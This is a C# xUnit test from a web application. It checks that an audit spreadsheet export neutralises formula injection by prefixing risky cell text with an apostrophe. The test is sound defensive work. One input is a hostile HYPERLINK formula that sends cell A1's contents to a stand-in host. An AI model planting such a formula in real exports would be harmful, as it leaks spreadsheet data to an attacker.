using MiniExcelLibs;
using Mtqg.Web.Features.Accounts;
using Mtqg.Web.Features.Audit;
using Mtqg.Web.Tests.Infrastructure;

namespace Mtqg.Web.Tests.Excel;

public sealed class FormulaTextTests
{
    [Fact]
    public async Task Text_that_a_spreadsheet_would_run_as_a_formula_is_exported_with_a_leading_apostrophe()
    {
        await using var app = await MtqgApp.StartAsync();
        var given = app.Given();
        var office = await given.Account(Roles.Coordinator, unit: "15");
        const string hostile = "=HYPERLINK(\"http://example.invalid/?\"&A1;\"Bấm vào\")";
        const string bullet = "-1+2 xã";
        const string plain = "Xã khó khăn";
        foreach (var name in new[] { hostile, bullet, plain })
            await given.CommuneList(office.Client, "15", name, ["02989"]);

        var workbook = await (await given.Administrator()).GetByteArrayAsync("/api/v1/audit.xlsx?entity=CommuneList");

        using var stream = new MemoryStream(workbook);
        var cells = MiniExcel
            .Query(stream, useHeaderRow: true, sheetName: AuditWorkbook.TrailSheet)
            .Cast<IDictionary<string, object?>>()
            .SelectMany(r => r.Values)
            .OfType<string>()
            .ToList();
        Assert.Contains("'" + hostile, cells);
        Assert.Contains("'" + bullet, cells);
        Assert.Contains(plain, cells);
        Assert.DoesNotContain(hostile, cells);
    }
}
